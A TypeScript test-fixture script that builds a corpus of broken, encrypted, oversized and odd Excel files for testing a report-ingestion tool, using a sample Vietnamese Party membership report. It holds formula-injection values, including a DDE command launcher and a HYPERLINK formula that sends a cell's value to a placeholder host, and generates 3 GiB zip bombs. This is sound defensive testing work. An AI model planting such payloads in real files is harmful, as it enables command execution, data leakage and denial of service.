/**
 * Builds the corpus of bad submissions of issue 8: files that are broken, old, encrypted, huge or strange, and
 * unit reports whose table holds error values, merges, hidden rows and sheets or uncomputed formulas. Each is
 * written byte by byte (worksheet XML, zip and OLE2 containers made here, not by ExcelJS), so that the big ones
 * are fast to make and the broken ones are broken exactly as described. Nothing is committed: the tests build
 * the corpus into a temporary folder; this script writes it where you ask, to try the CLI by hand.
 *
 * The unit in the reports is "Đảng bộ thị xã Đông Triều" (Quảng Ninh), on the same form (Biểu số 02-BTCTW) as
 * examples/, with figures of the same scale: 58 tổ chức cơ sở đảng = 30 đảng bộ cơ sở + 28 chi bộ cơ sở,
 * 5.874 đảng viên = 5.712 chính thức + 162 dự bị.
 *
 * Usage: tsx scripts/make-bad-files.ts [OUT_DIR]   (default: test/.tmp/bad-files)
 */
import { mkdirSync, writeFileSync } from "fs";
import { join } from "path";
import { constants, deflateRawSync } from "zlib";

/** One file of the corpus: its name, what is wrong with it, its bytes. */
export interface BadFile {
  name: string;
  what: string;
  bytes: Uint8Array;
}

// ---------------------------------------------------------------- worksheet XML

const esc = (s: string) =>
  s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;").replace(/"/g, "&quot;");

/** Column letters of a 1-based column number (1 → A, 16384 → XFD). */
export function col(n: number): string {
  let s = "";
  for (let x = n; x > 0; x = Math.floor((x - 1) / 26))
    s = String.fromCharCode(65 + ((x - 1) % 26)) + s;
  return s;
}

type Cell =
  string | number | { f: string; v?: number | string; error?: boolean } | null | undefined;

/** One cell's XML: text inline, numbers, formulas with or without a cached value, error values. */
function cellXml(ref: string, c: Cell): string {
  if (c === null || c === undefined || c === "") return "";
  if (typeof c === "number") return `<c r="${ref}"><v>${c}</v></c>`;
  if (typeof c === "string") return `<c r="${ref}" t="inlineStr"><is><t>${esc(c)}</t></is></c>`;
  const f = `<f>${esc(c.f)}</f>`;
  if (c.v === undefined) return `<c r="${ref}">${f}</c>`;
  if (c.error) return `<c r="${ref}" t="e">${f}<v>${esc(String(c.v))}</v></c>`;
  if (typeof c.v === "string") return `<c r="${ref}" t="str">${f}<v>${esc(c.v)}</v></c>`;
  return `<c r="${ref}">${f}<v>${c.v}</v></c>`;
}

interface SheetSpec {
  name: string;
  state?: "hidden" | "veryHidden";
  /** Rows by 1-based number: cells from column A. */
  rows: Map<number, Cell[]>;
  merges?: string[];
  hiddenRows?: number[];
  /** Raw <row> elements appended after the rows (for the huge sheets). */
  tail?: () => string;
}

function sheetXml(s: SheetSpec): string[] {
  const out: string[] = [
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`,
  ];
  const hidden = new Set(s.hiddenRows ?? []);
  for (const r of [...s.rows.keys()].sort((a, b) => a - b)) {
    const cells = s.rows
      .get(r)!
      .map((c, i) => cellXml(`${col(i + 1)}${r}`, c))
      .join("");
    out.push(`<row r="${r}"${hidden.has(r) ? ` hidden="1"` : ""}>${cells}</row>`);
  }
  if (s.tail) out.push(s.tail());
  out.push(`</sheetData>`);
  if (s.merges?.length)
    out.push(
      `<mergeCells count="${s.merges.length}">${s.merges.map((m) => `<mergeCell ref="${m}"/>`).join("")}</mergeCells>`
    );
  out.push(`</worksheet>`);
  return out;
}

// ---------------------------------------------------------------- zip

const CRC_TABLE = (() => {
  const t = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    t[n] = c >>> 0;
  }
  return t;
})();

function crc32(chunks: Uint8Array[]): number {
  let c = 0xffffffff;
  for (const b of chunks)
    for (let i = 0; i < b.length; i++) c = CRC_TABLE[(c ^ b[i]) & 0xff] ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

interface ZipItem {
  name: string;
  /** Raw deflate data. */
  deflated: Uint8Array;
  /** Uncompressed size written in the headers (may lie). */
  size: number;
  crc: number;
}

const utf8 = (s: string) => new Uint8Array(Buffer.from(s, "utf8"));

/** A zip entry from text given in pieces (the big sheets are never one string). */
function deflated(name: string, pieces: string[]): ZipItem {
  const bytes = pieces.map(utf8);
  const whole = Buffer.concat(bytes);
  return {
    name,
    deflated: new Uint8Array(deflateRawSync(whole, { level: 6 })),
    size: whole.length,
    crc: crc32(bytes),
  };
}

function zip(items: ZipItem[]): Uint8Array {
  const parts: Uint8Array[] = [];
  const central: Uint8Array[] = [];
  let offset = 0;
  for (const it of items) {
    const name = utf8(it.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6); // UTF-8 names
    local.writeUInt16LE(8, 8);
    local.writeUInt32LE(0x5a210000, 10); // 2025-01-01 04:16 (fixed, so the corpus is the same every time)
    local.writeUInt32LE(it.crc, 14);
    local.writeUInt32LE(it.deflated.length, 18);
    local.writeUInt32LE(it.size, 22);
    local.writeUInt16LE(name.length, 26);
    local.writeUInt16LE(0, 28);
    const dir = Buffer.alloc(46);
    dir.writeUInt32LE(0x02014b50, 0);
    dir.writeUInt16LE(20, 4);
    dir.writeUInt16LE(20, 6);
    dir.writeUInt16LE(0x0800, 8);
    dir.writeUInt16LE(8, 10);
    dir.writeUInt32LE(0x5a210000, 12);
    dir.writeUInt32LE(it.crc, 16);
    dir.writeUInt32LE(it.deflated.length, 20);
    dir.writeUInt32LE(it.size, 24);
    dir.writeUInt16LE(name.length, 28);
    dir.writeUInt32LE(offset, 42);
    parts.push(local, name, it.deflated);
    central.push(dir, name);
    offset += 30 + name.length + it.deflated.length;
  }
  const cdSize = central.reduce((s, c) => s + c.length, 0);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(items.length, 8);
  end.writeUInt16LE(items.length, 10);
  end.writeUInt32LE(cdSize, 12);
  end.writeUInt32LE(offset, 16);
  return new Uint8Array(Buffer.concat([...parts, ...central, end]));
}

/** The package parts around the sheets: content types, relationships, workbook.xml. */
function packageItems(sheets: SheetSpec[]): ZipItem[] {
  const types = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>${sheets
    .map(
      (_, i) =>
        `<Override PartName="/xl/worksheets/sheet${i + 1}.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>`
    )
    .join("")}</Types>`;
  const rels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`;
  const workbook = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>${sheets
    .map(
      (s, i) =>
        `<sheet name="${esc(s.name)}" sheetId="${i + 1}"${s.state ? ` state="${s.state}"` : ""} r:id="rId${i + 1}"/>`
    )
    .join("")}</sheets></workbook>`;
  const wbRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${sheets
    .map(
      (_, i) =>
        `<Relationship Id="rId${i + 1}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet${i + 1}.xml"/>`
    )
    .join("")}</Relationships>`;
  return [
    deflated("[Content_Types].xml", [types]),
    deflated("_rels/.rels", [rels]),
    deflated("xl/workbook.xml", [workbook]),
    deflated("xl/_rels/workbook.xml.rels", [wbRels]),
  ];
}

/** An .xlsx of the given sheets; `replace` swaps a sheet's part for a ready-made entry (the bombs). */
function xlsx(sheets: SheetSpec[], replace: Record<number, ZipItem> = {}): Uint8Array {
  return zip([
    ...packageItems(sheets),
    ...sheets.map((s, i) => replace[i] ?? deflated(`xl/worksheets/sheet${i + 1}.xml`, sheetXml(s))),
  ]);
}

// ---------------------------------------------------------------- the unit's report

interface FormLine {
  code: string;
  label: string;
  uom?: string;
  value?: number;
  /** Row (in the sheet) of the count this row's percentage is taken of. */
  base?: number;
}

/** First row of the indicator table (row 10: "I. TỔ CHỨC CƠ SỞ ĐẢNG"), as in examples/. */
const FIRST = 10;

/** Đông Triều's figures on the form's rows (row numbers of the sheet on the right). */
const LINES: FormLine[] = [
  { code: "I", label: "TỔ CHỨC CƠ SỞ ĐẢNG" }, // 10
  { code: "1", label: "Tổng số tổ chức cơ sở đảng", uom: "Tổ chức", value: 58 }, // 11
  { code: "", label: "Gồm:" }, // 12
  { code: "1.1", label: "Đảng bộ cơ sở", uom: "Tổ chức", value: 30, base: 11 }, // 13
  { code: "1.2", label: "Chi bộ cơ sở", uom: "Tổ chức", value: 28, base: 11 }, // 14
  { code: "2", label: "Số chi bộ trực thuộc đảng ủy cơ sở", uom: "Chi bộ", value: 402 }, // 15
  {
    code: "3",
    label: "Tổ chức cơ sở đảng được xếp loại hoàn thành tốt nhiệm vụ trở lên",
    uom: "Tổ chức",
    value: 52,
    base: 11,
  }, // 16
  {
    code: "4",
    label: "Tổ chức cơ sở đảng có bí thư cấp ủy đồng thời là thủ trưởng cơ quan, đơn vị",
    uom: "Tổ chức",
    value: 17,
    base: 11,
  }, // 17
  { code: "II", label: "ĐẢNG VIÊN" }, // 18
  { code: "1", label: "Tổng số đảng viên", uom: "Người", value: 5874 }, // 19
  { code: "", label: "Gồm:" }, // 20
  { code: "1.1", label: "Đảng viên chính thức", uom: "Người", value: 5712, base: 19 }, // 21
  { code: "1.2", label: "Đảng viên dự bị", uom: "Người", value: 162, base: 19 }, // 22
  { code: "", label: "Trong đó:" }, // 23
  { code: "-", label: "Đảng viên nữ", uom: "Người", value: 2391, base: 19 }, // 24
  { code: "-", label: "Đảng viên là người dân tộc thiểu số", uom: "Người", value: 64, base: 19 }, // 25
  {
    code: "-",
    label: "Có trình độ chuyên môn từ đại học trở lên",
    uom: "Người",
    value: 3180,
    base: 19,
  }, // 26
  {
    code: "-",
    label: "Có trình độ lý luận chính trị từ trung cấp trở lên",
    uom: "Người",
    value: 1902,
    base: 19,
  }, // 27
  { code: "2", label: "Đảng viên mới kết nạp trong năm", uom: "Người", value: 171 }, // 28
  {
    code: "3",
    label: "Đảng viên được xếp loại hoàn thành tốt nhiệm vụ trở lên",
    uom: "Người",
    value: 5690,
    base: 19,
  }, // 29
  { code: "4", label: "Tuổi bình quân của đảng viên", uom: "Tuổi", value: 47.3 }, // 30
  { code: "III", label: "KIỂM TRA, GIÁM SÁT VÀ KỶ LUẬT ĐẢNG" }, // 31
  { code: "1", label: "Đảng viên bị xử lý kỷ luật trong năm", uom: "Người", value: 5 }, // 32
  { code: "2", label: "Đảng viên bị xóa tên trong năm", uom: "Người", value: 3 }, // 33
];

/** Row number of a form line by its label. */
export function rowOf(label: string): number {
  const i = LINES.findIndex((l) => l.label === label);
  if (i < 0) throw new Error(`no line ${label}`);
  return FIRST + i;
}

const round1 = (x: number) => Math.round(x * 10) / 10;

/** The report as a sheet: header block, table (percentages as formulas with cached values), signatures. */
function reportSheet(
  name = "Biểu 02",
  figures: Record<number, number> = {},
  period = "Năm 2024 (số liệu đến ngày 31/12/2024)"
): SheetSpec {
  const value = (r: number) => figures[r] ?? LINES[r - FIRST].value!;
  const rows = new Map<number, Cell[]>();
  rows.set(1, ["THỊ ỦY ĐÔNG TRIỀU", "", "", "ĐẢNG CỘNG SẢN VIỆT NAM"]);
  rows.set(2, ["*", "", "", "Biểu số 02-BTCTW"]);
  rows.set(4, ["BÁO CÁO SỐ LƯỢNG, CHẤT LƯỢNG TỔ CHỨC CƠ SỞ ĐẢNG VÀ ĐẢNG VIÊN"]);
  rows.set(5, [`Kỳ báo cáo: ${period}`]);
  rows.set(6, ["Đơn vị báo cáo: Đảng bộ thị xã Đông Triều"]);
  rows.set(8, ["STT", "Chỉ tiêu", "Đơn vị tính", "Số lượng", "Tỷ lệ (%)", "Ghi chú"]);
  rows.set(9, ["A", "B", "C", "1", "2", "3"]);
  LINES.forEach((l, i) => {
    const r = FIRST + i;
    const v = l.value === undefined ? "" : value(r);
    const pct: Cell = l.base
      ? { f: `D${r}/D${l.base}*100`, v: (value(r) / value(l.base)) * 100 }
      : "";
    rows.set(r, [l.code, l.label, l.uom ?? "", v, pct, ""]);
  });
  rows.set(35, ["", "", "", "Đông Triều, ngày 15 tháng 01 năm 2025"]);
  rows.set(36, ["NGƯỜI LẬP BIỂU", "", "", "T/M BAN THƯỜNG VỤ"]);
  rows.set(37, ["", "", "", "BÍ THƯ"]);
  rows.set(41, ["Phạm Thị Hồng", "", "", "Nguyễn Văn Hưng"]);
  return {
    name,
    rows,
    merges: ["A1:C1", "D1:F1", "A2:C2", "D2:F2", "A4:F4", "A5:F5", "A6:F6"],
  };
}

/** The shown percentage of a line (one decimal, as the form shows it). */
export function percentOf(label: string): number {
  const l = LINES[rowOf(label) - FIRST];
  return round1((l.value! / LINES[l.base! - FIRST].value!) * 100);
}

/** The figure of a line. */
export function valueOf(label: string): number {
  return LINES[rowOf(label) - FIRST].value!;
}

// ---------------------------------------------------------------- OLE2 (compound file) containers

/**
 * A compound file (the container of .xls files and of encrypted .xlsx packages) holding the given streams in
 * regular 512-byte sectors: header, one FAT sector, one directory sector, then the streams. Each stream is at
 * least 4 096 bytes, so that the mini stream (for smaller ones) is not needed.
 */
export function compoundFile(streams: { name: string; data: Uint8Array }[]): Uint8Array {
  const SECTOR = 512;
  const padded = streams.map((s) => {
    const size = Math.max(4096, s.data.length);
    const data = new Uint8Array(Math.ceil(size / SECTOR) * SECTOR);
    data.set(s.data);
    return { name: s.name, data, size };
  });
  const dataSectors = padded.reduce((n, s) => n + s.data.length / SECTOR, 0);
  const sectors = 2 + dataSectors;
  if (sectors > 128 || streams.length > 3)
    throw new Error("compoundFile: too big for one FAT sector");
  const header = Buffer.alloc(SECTOR);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 24); // minor version
  header.writeUInt16LE(3, 26); // major version 3: 512-byte sectors
  header.writeUInt16LE(0xfffe, 28); // little-endian
  header.writeUInt16LE(9, 30); // sector shift: 2^9
  header.writeUInt16LE(6, 32); // mini sector shift: 2^6
  header.writeUInt32LE(1, 44); // FAT sectors
  header.writeUInt32LE(1, 48); // first directory sector
  header.writeUInt32LE(4096, 56); // mini stream cutoff
  header.writeUInt32LE(0xfffffffe, 60); // no mini FAT
  header.writeUInt32LE(0xfffffffe, 68); // no DIFAT sectors
  header.writeInt32LE(0, 76); // DIFAT[0]: the FAT is sector 0
  for (let i = 1; i < 109; i++) header.writeUInt32LE(0xffffffff, 76 + i * 4);

  const fat = Buffer.alloc(SECTOR, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0); // sector 0: FAT
  fat.writeUInt32LE(0xfffffffe, 4); // sector 1: directory, end of chain
  let next = 2;
  const starts: number[] = [];
  for (const s of padded) {
    starts.push(next);
    const n = s.data.length / SECTOR;
    for (let k = 0; k < n; k++)
      fat.writeUInt32LE(k === n - 1 ? 0xfffffffe : next + k + 1, (next + k) * 4);
    next += n;
  }

  const dir = Buffer.alloc(SECTOR);
  const entry = (i: number, name: string, type: number, start: number, size: number) => {
    const o = i * 128;
    dir.fill(0, o, o + 128);
    dir.write(name, o, "utf16le");
    dir.writeUInt16LE((name.length + 1) * 2, o + 64);
    dir.writeUInt8(type, o + 66);
    dir.writeUInt8(1, o + 67); // black
    dir.writeUInt32LE(0xffffffff, o + 68); // left sibling
    dir.writeUInt32LE(0xffffffff, o + 72); // right sibling
    dir.writeUInt32LE(0xffffffff, o + 76); // child
    dir.writeUInt32LE(start, o + 116);
    dir.writeUInt32LE(size, o + 120);
  };
  entry(0, "Root Entry", 5, 0xfffffffe, 0);
  padded.forEach((s, i) => entry(i + 1, s.name, 2, starts[i], s.size));
  // The streams hang off the root as a chain of right siblings (a degenerate but valid red-black tree).
  if (padded.length) dir.writeUInt32LE(1, 76);
  for (let i = 1; i < padded.length; i++) dir.writeUInt32LE(i + 1, i * 128 + 72);
  for (let i = padded.length + 1; i < 4; i++) {
    const o = i * 128;
    dir.writeUInt32LE(0xffffffff, o + 68);
    dir.writeUInt32LE(0xffffffff, o + 72);
    dir.writeUInt32LE(0xffffffff, o + 76);
  }
  return new Uint8Array(Buffer.concat([header, fat, dir, ...padded.map((s) => s.data)]));
}

/** The start of a BIFF8 workbook stream: a BOF record (Excel 97-2003 workbook globals), then EOF. */
function biffWorkbook(): Uint8Array {
  const bof = Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]);
  const rest = Buffer.from([
    0x54, 0x38, 0xcd, 0x07, 0xc1, 0x00, 0x01, 0x00, 0x06, 0x04, 0x00, 0x00,
  ]);
  const eof = Buffer.from([0x0a, 0x00, 0x00, 0x00]);
  return new Uint8Array(Buffer.concat([bof, rest, eof]));
}

/** EncryptionInfo as Excel writes it for agile encryption (version 4.4): a version and an XML descriptor. */
function encryptionInfo(): Uint8Array {
  const xml =
    `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption xmlns="http://schemas.microsoft.com/office/2006/encryption" xmlns:p="http://schemas.microsoft.com/office/2006/keyEncryptor/password">` +
    `<keyData saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/>` +
    `<keyEncryptors><keyEncryptor uri="http://schemas.microsoft.com/office/2006/keyEncryptor/password"><p:encryptedKey spinCount="100000" saltSize="16" blockSize="16" keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" hashAlgorithm="SHA512"/></keyEncryptor></keyEncryptors></encryption>`;
  return new Uint8Array(
    Buffer.concat([Buffer.from([4, 0, 4, 0, 0x40, 0, 0, 0]), Buffer.from(xml)])
  );
}

/** EncryptedPackage: the package's real size (8 bytes), then ciphertext (here pseudo-random bytes). */
function encryptedPackage(): Uint8Array {
  const b = Buffer.alloc(8 + 8192);
  b.writeUInt32LE(9000, 0);
  const r = random(7);
  for (let i = 8; i < b.length; i++) b[i] = r() & 0xff;
  return new Uint8Array(b);
}

/** A small deterministic generator (mulberry32), so the random file is the same every time. */
function random(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return (t ^ (t >>> 14)) >>> 0;
  };
}

// ---------------------------------------------------------------- zip bombs

const GiB = 1024 * 1024 * 1024;

/**
 * Raw deflate data that inflates to `bytes` zero bytes (a multiple of 1 MiB): one block of 1 MiB of zeros ended
 * by a sync flush (so it ends on a byte boundary and can be repeated), repeated, then an empty final block.
 * 3 GiB take about 3 MB.
 */
function zeros(bytes: number): Uint8Array {
  const MiB = 1024 * 1024;
  const block = deflateRawSync(Buffer.alloc(MiB), {
    level: 9,
    finishFlush: constants.Z_SYNC_FLUSH,
  });
  const n = bytes / MiB;
  const out = Buffer.alloc(block.length * n + 2);
  for (let i = 0; i < n; i++) block.copy(out, i * block.length);
  out[out.length - 2] = 0x03; // final fixed-Huffman block holding only its end code
  out[out.length - 1] = 0x00;
  return new Uint8Array(out);
}

/**
 * A report whose sheet part inflates to 3 GiB of zeros. `honest`: the zip directory says so (the CRC is left
 * 0: nobody should get far enough to check it); otherwise the directory claims 4 KB.
 */
function zipBomb(honest: boolean): Uint8Array {
  const size = 3 * GiB;
  const bomb: ZipItem = {
    name: "xl/worksheets/sheet1.xml",
    deflated: zeros(size),
    size: honest ? size : 4096,
    crc: 0,
  };
  return xlsx([reportSheet()], { 0: bomb });
}

// ---------------------------------------------------------------- the corpus

/** The good report of Đông Triều (used by the tests as a reference: it has no issue of its own). */
export function goodReport(): Uint8Array {
  return xlsx([reportSheet()]);
}

/**
 * Text a unit may send that a spreadsheet would take for a formula (issue 8, hostile content): a unit name,
 * a label, notes and a figure starting with "=", "+", "-" or "@". Real ones are mostly harmless (phone
 * numbers, "-5 so với cùng kỳ"), but a formula written from them could run a command (DDE) or send data out.
 */
export const HOSTILE = {
  unit: "=cmd|' /C calc'!A0",
  label: '@HYPERLINK("http://example.invalid/?q="&B19,"Đảng viên nữ")',
  notes: ["=1+1", "+84 912 345 678", "-5 so với cùng kỳ", "@Phòng Tổ chức"],
  figure: "=2+3",
};

/** Đông Triều's report carrying HOSTILE text as text: unit name, a label, notes F11, F13, F14, F19, and D32. */
export function hostileReport(): Uint8Array {
  const s = reportWith([
    [6, 1, `Đơn vị báo cáo: ${HOSTILE.unit}`],
    [24, 2, HOSTILE.label],
    [11, 6, HOSTILE.notes[0]],
    [13, 6, HOSTILE.notes[1]],
    [14, 6, HOSTILE.notes[2]],
    [19, 6, HOSTILE.notes[3]],
    [32, 4, HOSTILE.figure],
  ]);
  return xlsx([s]);
}

/** A copy of the report sheet with some cells replaced ([row, column 1-based, cell]). */
function reportWith(changes: [number, number, Cell][], extra: Partial<SheetSpec> = {}): SheetSpec {
  const s = reportSheet();
  for (const [r, c, cell] of changes) {
    const row = (s.rows.get(r) ?? []).slice();
    while (row.length < c) row.push("");
    row[c - 1] = cell;
    s.rows.set(r, row);
  }
  return { ...s, ...extra, merges: [...(s.merges ?? []), ...(extra.merges ?? [])] };
}

/** Builds every file of the corpus (in memory; the big ones are a few MB each once zipped). */
export function badFiles(): BadFile[] {
  const good = goodReport();
  const r = random(42);
  const files: BadFile[] = [
    { name: "rong.xlsx", what: "an empty file (0 bytes)", bytes: new Uint8Array(0) },
    {
      name: "ngau-nhien.xlsx",
      what: "64 KB of random bytes",
      bytes: new Uint8Array(65536).map(() => r() & 0xff),
    },
    {
      name: "tai-ve-do-dang.xlsx",
      what: "a report cut off after 60% of its bytes (a download that stopped)",
      bytes: good.slice(0, Math.floor(good.length * 0.6)),
    },
    {
      name: "danh-sach-csv.xlsx",
      what: "a CSV export renamed .xlsx",
      bytes: utf8(
        "STT,Chỉ tiêu,Đơn vị tính,Số lượng\r\n1,Tổng số tổ chức cơ sở đảng,Tổ chức,58\r\n2,Tổng số đảng viên,Người,5874\r\n"
      ),
    },
    {
      name: "excel-2003.xlsx",
      what: "an Excel 97-2003 workbook (BIFF8 in a compound file) renamed .xlsx",
      bytes: compoundFile([{ name: "Workbook", data: biffWorkbook() }]),
    },
    {
      name: "dat-mat-khau.xlsx",
      what: "a password-protected .xlsx (EncryptionInfo and EncryptedPackage in a compound file)",
      bytes: compoundFile([
        { name: "EncryptionInfo", data: encryptionInfo() },
        { name: "EncryptedPackage", data: encryptedPackage() },
      ]),
    },
    {
      name: "bom-zip-khai-that.xlsx",
      what: "a sheet inflating to 3 GiB, its size stated in the zip directory",
      bytes: zipBomb(true),
    },
    {
      name: "bom-zip-khai-gian.xlsx",
      what: "a sheet inflating to 3 GiB while the zip directory says 4 KB",
      bytes: zipBomb(false),
    },
    {
      name: "trieu-dong.xlsx",
      what: "the report with a 0 filled down column G to row 1 048 576",
      bytes: xlsx([
        {
          ...reportSheet(),
          tail: () => {
            const rows: string[] = [];
            for (let n = 42; n <= 1_048_576; n++)
              rows.push(`<row r="${n}"><c r="G${n}"><v>0</v></c></row>`);
            return rows.join("");
          },
        },
      ]),
    },
    {
      name: "16384-cot.xlsx",
      what: "the report with row 3 filled right across to column XFD (16 384 columns)",
      bytes: xlsx([
        {
          ...reportSheet(),
          rows: (() => {
            const s = reportSheet();
            s.rows.set(
              3,
              Array.from({ length: 16384 }, (_, i) => i + 1)
            );
            return s.rows;
          })(),
        },
      ]),
    },
    {
      name: "gia-tri-loi.xlsx",
      what: "error values in the table: #DIV/0! (E13), #REF! (D15), #N/A (D28)",
      bytes: xlsx([
        reportWith([
          [13, 5, { f: "D13/D99*100", v: "#DIV/0!", error: true }],
          [15, 4, { f: "#REF!+0", v: "#REF!", error: true }],
          [28, 4, { f: 'VLOOKUP("Đông Triều",H1:I2,2,FALSE)', v: "#N/A", error: true }],
        ]),
      ]),
    },
    {
      name: "o-gop.xlsx",
      what: "merged cells across the table: section rows A10:F10 and A18:F18 (code and title in A), the notes F11:F17, and D24:D25 (two figures merged, 64 lost)",
      bytes: xlsx([
        reportWith(
          [
            // A merged section row keeps the text of its first cell only, as Excel does.
            [10, 1, "I. TỔ CHỨC CƠ SỞ ĐẢNG"],
            [10, 2, ""],
            [18, 1, "II. ĐẢNG VIÊN"],
            [18, 2, ""],
            [11, 6, "Số liệu đã rà soát ngày 10/01/2025"],
            [25, 4, ""],
          ],
          { merges: ["A10:F10", "A18:F18", "F11:F17", "D24:D25"] }
        ),
      ]),
    },
    {
      name: "an-dong-an-trang.xlsx",
      what: "hidden rows in the table (25, 26) and a hidden sheet with last year's report of the same unit",
      bytes: xlsx([
        { ...reportSheet(), hiddenRows: [25, 26] },
        {
          ...reportSheet(
            "Năm 2023",
            { 11: 57, 13: 29, 16: 50, 19: 5790, 21: 5641, 22: 149, 24: 2342, 28: 166, 29: 5602 },
            "Năm 2023 (số liệu đến ngày 31/12/2023)"
          ),
          state: "hidden",
        },
      ]),
    },
    {
      name: "cong-thuc-chua-tinh.xlsx",
      what: "percentages as formulas without cached values (a file written by a program, never opened in Excel)",
      bytes: xlsx([
        (() => {
          const s = reportSheet();
          for (const [r, row] of s.rows) {
            const c = row[4];
            if (c && typeof c === "object") row[4] = { f: c.f };
            s.rows.set(r, row);
          }
          return s;
        })(),
      ]),
    },
    {
      name: "khong-co-bieu-mau.xlsx",
      what: "a workbook with no report form: a list of names and a note",
      bytes: xlsx([
        {
          name: "Danh sách",
          rows: new Map<number, Cell[]>([
            [1, ["DANH SÁCH ĐẢNG VIÊN ĐỀ NGHỊ TẶNG HUY HIỆU 30 NĂM TUỔI ĐẢNG"]],
            [3, ["Họ và tên", "Năm sinh", "Ngày vào Đảng", "Chi bộ"]],
            [4, ["Nguyễn Văn An", 1968, "12/05/1995", "Chi bộ khu 1"]],
            [5, ["Trần Thị Bình", 1970, "03/02/1995", "Chi bộ khu 3"]],
            [6, ["Lê Văn Cường", 1965, "19/08/1995", "Chi bộ khu 5"]],
          ]),
        },
        {
          name: "Ghi chú",
          rows: new Map<number, Cell[]>([[1, ["Gửi kèm báo cáo năm; biểu số liệu sẽ gửi sau."]]]),
        },
      ]),
    },
  ];
  return files;
}

/** Writes the corpus into `dir`; returns the files' paths. */
export function writeBadFiles(dir: string): string[] {
  mkdirSync(dir, { recursive: true });
  return badFiles().map((f) => {
    const path = join(dir, f.name);
    writeFileSync(path, f.bytes);
    return path;
  });
}

if (require.main === module) {
  const dir = process.argv[2] ?? join("test", ".tmp", "bad-files");
  for (const f of badFiles()) {
    writeFileSync(join((mkdirSync(dir, { recursive: true }), dir), f.name), f.bytes);
    console.log(`${f.name.padEnd(28)} ${String(f.bytes.length).padStart(9)} B  ${f.what}`);
  }
}
